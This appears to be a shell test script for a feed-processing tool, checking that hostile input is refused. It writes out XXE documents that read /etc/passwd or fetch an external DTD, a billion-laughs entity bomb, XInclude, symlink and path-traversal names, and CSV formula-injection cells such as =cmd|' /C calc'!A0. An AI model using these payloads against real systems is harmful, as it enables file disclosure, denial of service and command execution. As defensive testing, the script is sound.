#!/bin/sh
# hostile.sh - hostile input never escapes, expands, crashes or leaks.
#
# Owns: its work dir under WB_TMP, a loopback listener that records any
# connection, and a throw-away XSD check tool built from the library.
# Proves: (a) XML with external entities (file:///etc/passwd, an http URL to
# the listener), DTDs and billion laughs is refused as an Amazon processing
# report (served by the simulator) and by the feed XSD check, with no
# network contact and bounded time and memory; (b) symlinks in in/dispatch/
# are never followed, read or moved (one alert each), odd names (leading
# '-', control characters) are never read but set aside in reject/ with
# E_FILE_NAME, and requeue/hold refuse names with '../';
# (c) formula cells (= + - @) land in the reject file apostrophe-prefixed;
# (d) a 10 MB single-line file is rejected with a clear reason, bounded RSS.
# Must never: reach beyond 127.0.0.1, touch files outside WB_TMP.
set -u
. "$WB_ROOT/tests/lib.sh"
B=$WB_BIN
W=$WB_TMP/w
export WB_LOG=$WB_TMP/log
: >"$WB_LOG"
LPID=""
cleanup() {
    [ -n "$LPID" ] && kill "$LPID" 2>/dev/null
    wb_cleanup
}
trap cleanup EXIT
fail() {
    echo "FAIL: $*"
    grep -E "level=(warn|error)" "$WB_LOG" | tail -n 10
    exit 1
}

# run_bounded LIMIT_MB SECONDS OUT CMD... - run CMD, record exit code and peak RSS (KiB) in OUT;
# under ASan the address space cannot be capped, so the peak RSS is checked instead of ulimit -v
is_asan=0
nm "$B" 2>/dev/null | grep -q __asan_init && is_asan=1
run_bounded() {
    lim=$1 secs=$2 out=$3
    shift 3
    $WB_PY - "$lim" "$secs" "$out" "$is_asan" "$@" <<'PY'
import resource, subprocess, sys
lim, secs, out, asan = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4] == "1"
def cap():
    if not asan:
        resource.setrlimit(resource.RLIMIT_AS, (lim * 2 << 20, lim * 2 << 20))
try:
    p = subprocess.run(sys.argv[5:], preexec_fn=cap, timeout=secs,
                       stdout=open(out + ".out", "w"), stderr=subprocess.STDOUT)
    rc = p.returncode
except subprocess.TimeoutExpired:
    rc = "timeout"
rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
open(out, "w").write("%s %d\n" % (rc, rss))
PY
}

# the listener: any connection to it is written to $WB_TMP/contacted
$WB_PY - "$WB_TMP/lport" "$WB_TMP/contacted" <<'PY' &
import socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(16)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
import os
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True:
    c, _ = s.accept()
    with open(sys.argv[2], "a") as f:
        f.write("contacted\n")
    c.close()
PY
LPID=$!
i=0
while [ ! -s "$WB_TMP/lport" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
LPORT=$(cat "$WB_TMP/lport") || fail "listener did not start"
EVIL="http://127.0.0.1:$LPORT"

wb_start_sim "$WB_TMP/sim" --process-seconds 1 --rate-scale 50 || exit 1
wb_make_config "$W" "log_level = debug"
IN=$W/spool/in/dispatch
mkdir -p "$IN"
H=$WB_TMP/hostile
mkdir -p "$H"

# ---- (a) hostile XML documents ------------------------------------------------------------
cat >"$H/xxe-file.xml" <<EOF
<?xml version="1.0"?>
<!DOCTYPE AmazonEnvelope [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<AmazonEnvelope><Header><DocumentVersion>1.02</DocumentVersion><MerchantIdentifier>&xxe;</MerchantIdentifier></Header>
<MessageType>ProcessingReport</MessageType><Message><MessageID>1</MessageID><ProcessingReport>
<DocumentTransactionID>1</DocumentTransactionID><StatusCode>Complete</StatusCode>
<ProcessingSummary><MessagesProcessed>1</MessagesProcessed><MessagesSuccessful>0</MessagesSuccessful>
<MessagesWithError>1</MessagesWithError><MessagesWithWarning>0</MessagesWithWarning></ProcessingSummary>
<Result><MessageID>1</MessageID><ResultCode>Error</ResultCode><ResultMessageCode>18028</ResultMessageCode>
<ResultDescription>&xxe;</ResultDescription></Result></ProcessingReport></Message></AmazonEnvelope>
EOF
sed "s|file:///etc/passwd|$EVIL/entity|" "$H/xxe-file.xml" >"$H/xxe-http.xml"
sed "s|<!DOCTYPE AmazonEnvelope \[.*\]>|<!DOCTYPE AmazonEnvelope SYSTEM \"$EVIL/evil.dtd\">|; s|&xxe;|x|g" \
    "$H/xxe-file.xml" >"$H/dtd-http.xml"
sed "s|<!DOCTYPE AmazonEnvelope \[.*\]>|<!DOCTYPE AmazonEnvelope [ <!ENTITY % p SYSTEM \"$EVIL/p.dtd\"> %p; ]>|; s|&xxe;|x|g" \
    "$H/xxe-file.xml" >"$H/pe-http.xml"
{
    echo '<?xml version="1.0"?>'
    echo '<!DOCTYPE AmazonEnvelope ['
    echo ' <!ENTITY l0 "lollollollollollollollollollol">'
    k=1
    while [ $k -le 10 ]; do
        p=$((k - 1))
        echo " <!ENTITY l$k \"&l$p;&l$p;&l$p;&l$p;&l$p;&l$p;&l$p;&l$p;&l$p;&l$p;\">"
        k=$((k + 1))
    done
    echo ']>'
    sed -n '3,$p' "$H/xxe-file.xml" | sed 's/&xxe;/\&l10;/g'
} >"$H/laughs.xml"
printf '<?xml version="1.0"?>\n<AmazonEnvelope xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="%s/xi" parse="text"/><xi:include href="file:///etc/passwd" parse="text"/></AmazonEnvelope>\n' \
    "$EVIL" >"$H/xinclude.xml"
HOSTILE="xxe-file xxe-http dtd-http pe-http laughs xinclude"

# a1. the feed XSD check refuses each document
S=$(wb_shared)
LIB=$WB_BUILD/libwmsbridge.a
if [ -n "$S" ] && [ -f "$LIB" ] && command -v cc >/dev/null 2>&1; then
    cat >"$H/xsdtool.c" <<'EOF'
#include <stdio.h>
#include "amazon/xsdcheck.h"
#include "core/wb.h"
int main(int argc, char **argv)
{
    struct xsdcheck *x;
    struct buf err;
    buf_init(&err, 1 << 16);
    if (argc < 3 || xsdcheck_open(&x, argv[1], &err) != WB_OK) {
        fprintf(stderr, "xsdtool: %s\n", buf_str(&err));
        return 78;
    }
    int rc = xsdcheck_file(x, argv[2], &err);
    printf("%s: %s\n", wb_status_str(rc), buf_str(&err));
    xsdcheck_close(x);
    buf_free(&err);
    return rc == WB_OK ? 0 : rc == WB_PERMFAIL ? 65 : 70;
}
EOF
    san=""
    nm "$LIB" 2>/dev/null | grep -q __asan && san="-fsanitize=address,undefined"
    nm "$LIB" 2>/dev/null | grep -q __gcov_init && san="$san --coverage" # make coverage
    # shellcheck disable=SC2046,SC2086
    cc -std=c11 -D_GNU_SOURCE $san -I"$WB_ROOT/src" $(pkg-config --cflags libxml-2.0) \
        -o "$H/xsdtool" "$H/xsdtool.c" "$LIB" \
        $(pkg-config --libs libxml-2.0 libcurl libssh2 zlib sqlite3 jansson libcrypto) -lcsv -lm ||
        fail "cannot build the XSD check tool"
    for d in $HOSTILE; do
        run_bounded 256 30 "$H/$d.xsd" "$H/xsdtool" "$S/amazon" "$H/$d.xml"
        read -r rc rss <"$H/$d.xsd"
        echo "xsd check $d: exit $rc, peak RSS ${rss} KiB: $(cut -c1-160 "$H/$d.xsd.out")"
        [ "$rc" = 65 ] || fail "XSD check of $d.xml: exit $rc, expected 65 (refused)"
        [ "$rss" -lt 262144 ] || fail "XSD check of $d.xml used ${rss} KiB"
        grep -q 'root:' "$H/$d.xsd.out" && fail "XSD check of $d.xml shows /etc/passwd"
    done
else
    echo "note: XSD check part skipped (no shared XSDs, library or cc)"
fi

# a2. the same documents as Amazon's processing report of a real feed
n=0
for d in $HOSTILE; do
    n=$((n + 1))
    body=$($WB_PY -c 'import json,sys; print(json.dumps({"result_body": open(sys.argv[1]).read()}))' \
        "$H/$d.xml")
    wb_sim_ctl /_sim/faults "$body" >/dev/null || fail "sim: result_body"
    now=$(date -u -d '-30 min' +%Y-%m-%dT%H:%M:%SZ)
    printf 'amazon_order_id,order_item_id,sku,quantity,carrier_service,tracking_number,ship_time\n305-1000000-%07d,9900000000000%d,SKU-1,1,RM24,JD00000000%02dGB,%s\n' \
        "$n" "$n" "$n" "$now" >"$WB_TMP/x$n.csv"
    wb_drop "$WB_TMP/x$n.csv" "$IN"
    run_bounded 512 60 "$H/$d.run" "$B" -c "$WB_CONF" run --once dispatch --options flush
    read -r rc rss <"$H/$d.run"
    [ "$rc" = 0 ] || fail "dispatch run for $d: exit $rc"
    sleep 1.5
    run_bounded 512 60 "$H/$d.poll" "$B" -c "$WB_CONF" run --once feeds-poll --options now
    read -r rc rss <"$H/$d.poll"
    cat "$H/$d.run.out" "$H/$d.poll.out" >>"$WB_LOG"
    echo "report $d: feeds-poll exit $rc, peak RSS ${rss} KiB"
    [ "$rc" = timeout ] && fail "feeds-poll with report $d did not finish in 60 s"
    case $rc in 0 | 75) ;; *) fail "feeds-poll with report $d: exit $rc" ;; esac
    [ "$is_asan" = 1 ] && lim=524288 || lim=262144
    [ "$rss" -lt $lim ] || fail "feeds-poll with report $d used ${rss} KiB"
done
ls "$W/spool/corrupt/" | grep -q . || fail "no refused report kept in corrupt/"
st=$("$B" -c "$WB_CONF" status --json)
conf=$(wb_status_of "$st" confirmed)
[ "$conf" = 0 ] || fail "rows confirmed from a hostile report: $st"
grep -rl 'root:x:0:0' "$W" "$WB_LOG" 2>/dev/null && fail "/etc/passwd content in the spool or log"
sleep 0.5
[ -s "$WB_TMP/contacted" ] && fail "the listener was contacted ($(wc -l <"$WB_TMP/contacted") times)"
grep -q 'event=report-unreadable.*\(DOCTYPE\|declaration\|entit\)' "$WB_LOG" ||
    fail "no warning naming the refused declaration was logged"
for d in $HOSTILE; do
    [ "$(ls "$W/spool/corrupt/" | wc -l)" -le 6 ] || fail "corrupt/ grows with every poll of a bad report"
done
echo "(a) hostile XML refused: no expansion, no network contact"

# ---- (b) symlinks and odd names in the spool ----------------------------------------------
wb_sim_ctl /_sim/reset '{"faults": true, "state": false}' >/dev/null
now=$(date -u -d '-20 min' +%Y-%m-%dT%H:%M:%SZ)
printf 'amazon_order_id,order_item_id,sku,quantity,carrier_service,tracking_number,ship_time\n305-7777777-7777777,77777777777777,SKU-1,1,RM24,JD7777777777GB,%s\n' \
    "$now" >"$WB_TMP/outside.csv"
sum0=$(cksum <"$WB_TMP/outside.csv")
ln -s "$WB_TMP/outside.csv" "$IN/link-outside.csv"
ln -s /etc/passwd "$IN/link-passwd.csv"
ln -s "$WB_TMP/outside.csv" "$IN/.link-hidden.csv"
for nm in "-rf.csv" "$(printf 'ctl\001name.csv')" "$(printf 'new\nline.csv')"; do
    cp "$WB_TMP/outside.csv" "$IN/$nm"
done
"$B" -c "$WB_CONF" run --once dispatch --options flush >>"$WB_LOG" 2>&1
rc=$?
[ $rc -eq 0 ] || [ $rc -eq 75 ] || fail "dispatch with symlinks and odd names: exit $rc"
sleep 1.5
"$B" -c "$WB_CONF" run --once feeds-poll --options now >>"$WB_LOG" 2>&1
[ -L "$IN/link-outside.csv" ] && [ -L "$IN/link-passwd.csv" ] || fail "a symlink was moved out of in/"
[ "$(cksum <"$WB_TMP/outside.csv")" = "$sum0" ] || fail "the symlink target was changed"
[ -f "$WB_TMP/outside.csv" ] && [ ! -L "$WB_TMP/outside.csv" ] || fail "the symlink target was moved"
found=$(find "$W/spool" -path "$IN" -prune -o -print | while read -r p; do
    [ -L "$p" ] && echo "$p"
done)
[ -z "$found" ] || fail "symlink outside in/: $found"
wb_sim_ctl /_sim/received >"$WB_TMP/received.json"
grep -q '7777777' "$WB_TMP/received.json" && fail "a row reached Amazon through a symlink or an odd name"
grep -rl 'root:x:0:0' "$W" "$WB_LOG" 2>/dev/null && fail "/etc/passwd was read into the spool or log"
# odd names are never read: renamed into reject/ under a safe name with E_FILE_NAME
for nm in "-rf.csv" "$(printf 'ctl\001name.csv')" "$(printf 'new\nline.csv')"; do
    [ ! -e "$IN/$nm" ] || fail "odd name '$nm' left in in/"
done
n=0
for f in "$W"/spool/reject/dispatch/unsafe-name-*.csv; do
    [ -f "$f" ] || continue
    n=$((n + 1))
    [ "$(cksum <"$f")" = "$sum0" ] || fail "$f: content changed"
    grep -q '^code: E_FILE_NAME' "$f.reason" || fail "$f.reason lacks E_FILE_NAME"
done
[ $n -eq 3 ] || fail "odd names: $n of 3 renamed into reject/"
# the symlinks are reported once, not at every scan
a1=$(grep -c 'alert=not-a-file' "$WB_LOG")
"$B" -c "$WB_CONF" run --once dispatch >>"$WB_LOG" 2>&1
a2=$(grep -c 'alert=not-a-file' "$WB_LOG")
[ "$a1" -eq 2 ] && [ "$a2" -eq 2 ] || fail "symlink alerts: $a1 after the first run, $a2 after the second (want 2, 2)"
# requeue and hold take a plain name only
cp "$WB_TMP/outside.csv" "$WB_TMP/victim.csv"
for nm in "../../../victim.csv" "dispatch/../../victim.csv" ".." "../victim.csv" "-x.csv" \
    "$(printf 'a\nb.csv')" "/etc/passwd" "dispatch/.."; do
    for cmd in requeue hold; do
        "$B" -c "$WB_CONF" $cmd "$nm" >>"$WB_LOG" 2>&1
        rc=$?
        [ $rc -ne 0 ] || fail "$cmd '$nm' was accepted"
    done
done
"$B" -c "$WB_CONF" requeue x.csv --flow ../.. >>"$WB_LOG" 2>&1 && fail "requeue --flow ../.. accepted"
[ -f "$WB_TMP/victim.csv" ] || fail "requeue moved a file from outside the spool"
[ -f /etc/passwd ] || fail "/etc/passwd gone"
echo "(b) symlinks never followed, reported once; odd names never read, set aside in reject/; requeue/hold refuse paths"

# ---- (c) formula cells are neutralised in reject files -------------------------------------
{
    echo 'amazon_order_id,order_item_id,sku,quantity,carrier_service,tracking_number,ship_time'
    echo "\"=HYPERLINK(\"\"http://127.0.0.1:9/\"\")\",11111111111111,SKU-1,1,RM24,JD1000000001GB,$now"
    echo "305-1111111-1111112,+41111111111111,SKU-1,1,RM24,JD1000000002GB,$now"
    echo "@SUM(A1),11111111111113,SKU-1,1,RM24,JD1000000003GB,$now"
    echo "305-1111111-1111114,11111111111114,SKU-1,-1+2,RM24,JD1000000004GB,$now"
    echo "305-1111111-1111115,11111111111115,SKU-1,1,=cmd|' /C calc'!A0,JD1000000005GB,$now"
} >"$WB_TMP/formula.csv"
wb_drop "$WB_TMP/formula.csv" "$IN"
WB_OFFLINE=1 "$B" -c "$WB_CONF" run --once dispatch --options flush >>"$WB_LOG" 2>&1
rf=$(ls "$W"/spool/reject/dispatch/formula-rejects-*.csv 2>/dev/null | head -n 1)
[ -n "$rf" ] || rf=$(ls "$W"/spool/reject/dispatch/formula*.csv 2>/dev/null | head -n 1)
[ -n "$rf" ] || fail "no reject file for formula.csv"
for cell in "'=HYPERLINK(" "'+41111111111111" "'@SUM(A1)" "'-1+2" "'=cmd|"; do
    grep -qF -- "$cell" "$rf" || fail "cell not neutralised in $rf: $cell"
done
if $WB_PY - "$rf" <<'PY'; then :; else fail "a cell of $rf starts with a formula character"; fi
import csv, sys
for row in csv.reader(open(sys.argv[1], newline="")):
    for c in row:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            print("raw formula cell:", repr(c)); sys.exit(1)
PY
echo "(c) formula cells apostrophe-prefixed in $(basename "$rf")"

# ---- (d) overlong lines and fields ---------------------------------------------------------
$WB_PY -c 'import sys; sys.stdout.write("amazon_order_id," + "A" * (10 * 1024 * 1024))' >"$WB_TMP/long.csv"
{
    echo 'amazon_order_id,order_item_id,sku,quantity,carrier_service,tracking_number,ship_time'
    $WB_PY -c 'import sys; sys.stdout.write("305-2222222-2222222,22222222222222," + "S" * (2 << 20) + ",1,RM24,JD2000000001GB,")'
    echo "$now"
    echo "305-2222222-2222223,22222222222223,SKU-1,1,RM24,JD2000000002GB,$now"
} >"$WB_TMP/longfield.csv"
wb_drop "$WB_TMP/long.csv" "$IN"
wb_drop "$WB_TMP/longfield.csv" "$IN"
run_bounded 512 120 "$H/long.run" env WB_OFFLINE=1 "$B" -c "$WB_CONF" run --once dispatch --options flush
read -r rc rss <"$H/long.run"
cat "$H/long.run.out" >>"$WB_LOG"
echo "overlong files: exit $rc, peak RSS ${rss} KiB"
[ "$rc" = timeout ] && fail "a 10 MB line took more than 120 s"
[ "$is_asan" = 1 ] && lim=393216 || lim=131072
[ "$rss" -lt $lim ] || fail "a 10 MB line used ${rss} KiB"
[ -f "$W/spool/reject/dispatch/long.csv" ] || fail "10 MB single-line file not rejected"
reason=$(sed -n 's/^reason: //p' "$W/spool/reject/dispatch/long.csv.reason")
echo "long.csv reason: $reason"
echo "$reason" | grep -qi 'long\|large\|bytes' || fail "reason does not say the line is too long: $reason"
rl=$(ls "$W"/spool/reject/dispatch/longfield-rejects-*.csv "$W"/spool/reject/dispatch/longfield.csv \
    2>/dev/null | head -n 1)
[ -n "$rl" ] || fail "overlong field not rejected"
grep -rq 'E_FIELD_TOO_LONG\|longer than' "$W"/spool/reject/dispatch/longfield* ||
    fail "overlong field rejected without its reason"
[ "$(wc -c <"$rl")" -lt 1048576 ] || fail "the 2 MB cell was copied into the reject file"
"$B" -c "$WB_CONF" status >/dev/null 2>&1 || fail "status after hostile input"
echo "ok"
